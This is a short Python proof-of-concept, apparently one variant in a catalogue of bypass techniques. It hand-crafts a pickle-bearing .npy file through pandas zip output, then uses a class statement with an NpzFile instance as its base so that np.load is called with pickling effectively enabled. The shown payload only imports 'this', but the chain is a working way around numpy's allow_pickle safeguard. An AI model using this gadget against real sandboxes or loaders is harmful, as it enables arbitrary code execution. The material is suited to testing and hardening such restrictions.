# source: Python data model (class statement: metaclass = type(base), called (name, bases, ns)); numpy/lib/npyio.py NpzFile.__init__/__getitem__ -> numpy.lib.format.read_array -> pickle.load
# family: instance as class base -> NpzFile(fid=<class name>, own_fid, allow_pickle=<namespace>): variant with np.load(...) called inline in the base list
# goal: unpickles bytes written by the script: imports module 'this' (prints the Zen of Python)
import numpy as np
import pandas as pd
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * (117 - len(hdr))
first = chr(147) + "NUMPY" + chr(1) + chr(0) + chr(118) + chr(0) + hdr
rows = [first, "cthis", "s", "."]
df = pd.DataFrame({"a": rows})
df.to_csv("G", compression={"method": "zip", "archive_name": "x.npy"}, index=False, header=False, encoding="latin-1", sep="\t", quotechar="~", lineterminator="\n")
np.savez("a.npz", x=np.zeros(2))
class G(np.load("a.npz")):
    y = 1
print(G["x"][:40])
